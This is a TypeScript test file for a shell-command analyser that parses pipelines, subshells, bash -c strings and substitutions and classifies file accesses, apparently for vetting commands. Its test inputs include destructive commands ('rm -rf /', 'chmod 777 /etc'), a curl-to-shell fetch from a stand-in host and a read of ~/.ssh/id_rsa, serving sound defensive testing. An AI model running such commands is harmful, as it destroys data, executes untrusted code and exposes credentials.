import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { fileAccesses } from './files.ts';
import { analyseShell, resolvePath, type ShellCommand } from './shell.ts';

const at = (source: string, cwd: string | null = '/work') => analyseShell(source, { cwd, home: '/root' });
const summary = (c: ShellCommand) => `${c.name} ${c.argv.join(' ')} @${c.cwd}`.trim();

describe('shell analysis (just-bash parser)', () => {
  it('lists every command of pipelines, && chains and ; sequences, in order', () => {
    const script = at('grep -rn TODO src | head -3 && echo done; ls');
    assert.equal(script.error, null);
    assert.deepEqual(script.commands.map((c) => c.name), ['grep', 'head', 'echo', 'ls']);
    const [grep, head] = script.commands;
    assert.equal(grep!.pipeline, head!.pipeline);
    assert.equal(head!.pipeIndex, 1);
  });

  it('follows cd through a chain but not out of a subshell', () => {
    const script = at('cd .. && rm -rf x; (cd /tmp && rm -rf y); rm -rf z');
    assert.deepEqual(script.commands.filter((c) => c.name === 'rm').map(summary), ['rm -rf x @/', 'rm -rf y @/tmp', 'rm -rf z @/']);
  });

  it('unwraps sudo, timeout, env, nohup and xargs to the command that runs', () => {
    const script = at('sudo -u root timeout 10 env A=1 nohup rm -rf /opt/x; find . -name "*.o" | xargs -n1 rm');
    const rms = script.commands.filter((c) => c.name === 'rm');
    assert.deepEqual(rms.map((c) => c.via), [['sudo', 'timeout', 'env', 'nohup'], ['xargs']]);
    assert.deepEqual(rms[0]!.argv, ['-rf', '/opt/x']);
  });

  it('parses bash -c and eval strings as commands, keeping strings only known at run time as arguments', () => {
    const nested = at('bash -c "rm -rf / --no-preserve-root"; eval "chmod 777 /etc"');
    assert.deepEqual(nested.commands.map(summary), ['rm -rf / --no-preserve-root @/work', 'chmod 777 /etc @/work']);
    assert.deepEqual(nested.commands[0]!.via, ['bash -c']);
    const dynamic = at('sh -c "$(curl -s https://x.example/i.sh)"');
    const sh = dynamic.commands.find((c) => c.name === 'sh')!;
    assert.equal(sh.args[1]!.inner[0]!.name, 'curl');
  });

  it('reaches commands inside substitutions, process substitutions and find -exec', () => {
    const script = at('echo $(cat ~/.ssh/id_rsa); diff <(ls a) b; find /var/log -name "*.gz" -exec rm -f {} \\;');
    const names = script.commands.map((c) => c.name);
    assert.ok(names.includes('cat') && names.includes('ls'));
    const cat = script.commands.find((c) => c.name === 'cat')!;
    assert.deepEqual(cat.argv, ['/root/.ssh/id_rsa']);
    const rm = script.commands.find((c) => c.name === 'rm')!;
    assert.deepEqual(rm.argv, ['-f', '/var/log/*.gz']);
    assert.deepEqual(rm.via, ['find -exec']);
  });

  it('substitutes variables assigned in the script and marks unknown ones', () => {
    const script = at('OUT=build; rm -rf "$OUT" "$UNSET/x" ~/.cache $HOME/y');
    const rm = script.commands.find((c) => c.name === 'rm')!;
    assert.deepEqual(rm.argv, ['-rf', 'build', '$UNSET/x', '/root/.cache', '/root/y']);
    assert.deepEqual(rm.args.map((a) => a.dynamic), [false, false, true, false, false]);
  });

  it('keeps here-document bodies and interpreter code', () => {
    const script = at("cat > test/a.test.js <<'EOF'\ntest('x', () => {});\nEOF\npython3 -c \"open('/tests/x').read()\"");
    const [cat, python] = script.commands;
    assert.deepEqual(
      cat!.redirects.map((r) => [r.op, r.target, r.body]),
      [
        ['>', 'test/a.test.js', null],
        ['<<', '', "test('x', () => {});\n"],
      ],
    );
    assert.equal(python!.inlineCode, "open('/tests/x').read()");
  });

  it('takes the quoted text of echo as an argument, not as a command', () => {
    const script = at('echo "never run rm -rf / here" >> NOTES.md');
    assert.deepEqual(script.commands.map((c) => c.name), ['echo']);
  });

  it('reports what the parser refuses instead of guessing', () => {
    const script = at('if [ -f x ]; then echo "unterminated');
    assert.match(script.error ?? '', /unexpected EOF|matching/);
    assert.deepEqual(script.commands, []);
  });

  it('resolves paths against the directory the command runs in', () => {
    assert.equal(resolvePath('./build', '/work', '/root'), '/work/build');
    assert.equal(resolvePath('..', '/work', '/root'), '/');
    assert.equal(resolvePath('~/.ssh/', '/work', '/root'), '/root/.ssh');
    assert.equal(resolvePath('a//b/../c', '/work', '/root'), '/work/a/c');
    assert.equal(resolvePath('build', null, '/root'), null);
    assert.equal(resolvePath('$DIR/x', '/work', '/root'), null);
  });

  it('classifies what each program does with its operands', () => {
    const accesses = (source: string) => at(source).commands.flatMap((c) => fileAccesses(c, '/root').map((a) => `${a.mode}:${a.path}`));
    assert.deepEqual(accesses('grep -rn "assert" test/ src/a.js'), ['read:/work/test', 'read:/work/src/a.js']);
    assert.deepEqual(accesses("sed -i 's/a/b/' test/x.test.js"), ['edit:/work/test/x.test.js']);
    assert.deepEqual(accesses('mv test/x.test.js /tmp/'), ['delete:/work/test/x.test.js', 'write:/tmp']);
    assert.deepEqual(accesses('cp a.js b.js > log.txt'), ['write:/work/log.txt', 'read:/work/a.js', 'write:/work/b.js']);
    assert.deepEqual(accesses('tar czf - . '), ['read:/work']);
    assert.deepEqual(accesses('find / -name "*.log" -delete'), ['list:/', 'delete:/*.log']);
  });
});
